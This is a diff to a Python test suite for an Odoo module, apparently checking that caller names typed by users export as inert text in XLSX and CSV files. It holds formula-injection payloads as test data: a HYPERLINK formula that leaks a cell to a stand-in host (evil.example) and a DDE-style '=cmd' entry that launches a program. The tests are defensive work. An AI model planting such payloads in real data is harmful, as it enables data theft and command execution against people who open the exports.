@@ -1,5 +1,6 @@
 """Text a caller or a visitor typed is exported as text, never as a live spreadsheet formula or link."""
 
+import csv
 import io
 import json
 import re
@@ -15,7 +16,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open your file")'
 
 @tagged("post_install", "-at_install")
 class TestExportedTextStaysText(HttpCase, AttaBeneficiaryCase):
-    def _export(self, model, field_names, groupby=()):
+    def _export(self, model, field_names, groupby=(), file_format="xlsx"):
         Model = self.env[model]
         params = {
             "model": model,
@@ -29,9 +30,12 @@ class TestExportedTextStaysText(HttpCase, AttaBeneficiaryCase):
             "import_compat": False,
         }
         response = self.url_open(
-            "/web/export/xlsx", data={"data": json.dumps(params), "csrf_token": http.Request.csrf_token(self)}
+            f"/web/export/{file_format}",
+            data={"data": json.dumps(params), "csrf_token": http.Request.csrf_token(self)},
         )
         self.assertEqual(response.status_code, 200, response.text[:300])
+        if file_format == "csv":
+            return list(csv.reader(io.StringIO(response.content.decode())))
         with zipfile.ZipFile(io.BytesIO(response.content)) as book:
             sheet = book.read("xl/worksheets/sheet1.xml").decode()
             strings = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
@@ -53,3 +57,16 @@ class TestExportedTextStaysText(HttpCase, AttaBeneficiaryCase):
                 self.assertIn("=HYPERLINK(", strings.replace("&quot;", '"'), "the text is there, as a string")
                 self.assertIn("=1+1", strings)
                 self.assertTrue(re.search(r'<c r="[A-Z]+\d+"[^>]* t="s"', sheet), "string cells")
+
+    def test_a_formula_typed_as_a_name_is_exported_by_odoos_csv_export_behind_a_quote(self):
+        typed = ("@SUM(1)", "\t=1+1", "\r=cmd|' /C calc'!A0", "=1+1", "+966", "-2+3")
+        for name in typed + ("Fatimah @ the desk", "Plain caller"):
+            self.env["atta.interaction"].create(
+                {"name": "Call", "caller_name": name, "channel_id": self.channel_phone.id}
+            )
+        self.officer.group_ids += self.env.ref("base.group_allow_export")
+        self.authenticate(self.officer.login, self.officer.login)
+        rows = self._export("atta.interaction", ["caller_name", "name"], file_format="csv")
+        cells = {row[0] for row in rows[1:]}
+        # Each typed formula behind Odoo's quote, once; a text with "@" inside stays as it was typed.
+        self.assertEqual(cells, {"'" + name for name in typed} | {"Fatimah @ the desk", "Plain caller"})
